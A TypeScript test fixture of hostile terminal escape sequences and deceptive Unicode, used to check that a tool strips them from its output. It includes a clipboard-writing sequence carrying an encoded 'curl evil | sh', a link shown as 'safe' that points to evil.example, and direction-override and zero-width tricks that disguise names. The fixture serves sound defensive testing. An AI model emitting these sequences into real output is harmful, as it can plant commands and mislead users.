/** Text that changes a terminal, or misleads its readers. */

/** One text of each kind, by its effect. */
export const hostile: Readonly<Record<string, string>> = {
  clipboard: "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007",
  title: "\u001b]0;owned\u001b\\",
  link: "\u001b]8;;http://evil.example\u001b\\safe\u001b]8;;\u001b\\",
  clear: "\u001b[2J\u001b[3J\u001b[H",
  "erase line": "\r\u001b[2K",
  cursor: "\u001b[1A\u001b7\u001bc",
  conceal: "\u001b[8mhidden\u001b[0m",
  colour: "\u001b[31merror\u001b[0m",
  "white on white": "\u001b[37;47mhidden",
  "device control": '\u001bP$q"p\u001b\\\u001b_x\u001b\\\u001b^y\u001b\\',
  "8-bit control": "\u009b2J\u009d0;owned\u009c\u0090x\u009c\u0085",
  "control characters": "\b\b\u0007\u000e\u000f\u0000\u007f\u000b\u000c",
  "carriage return": "evil\rfine",
  "marks of direction": "\u202egnp.exe\u202c\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c",
  "no width": "pay\u200bpal\u200c\u200d\u2060\ufeff\u00ad",
  tags: "\u{e0041}\u{e007f}\u{e0100}",
  "line separators": "a\u2028b\u2029c",
};

export const allHostile = Object.values(hostile).join("");

/** The characters in an output that a terminal would interpret or not show, except our own colours and our own progress line. */
export function obeyed(written: string): string[] {
  const ours = ["\r\u001b[2K", ...[0, 1, 2, 31, 32, 33, 36].map((code) => `\u001b[${code}m`)];
  // The driver of a terminal writes line breaks as `\r\n`.
  const rest = ours.reduce((text, sequence) => text.replaceAll(sequence, ""), written).replaceAll("\r\n", "\n");
  return rest.match(/(?![\n\t])[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/gu) ?? [];
}
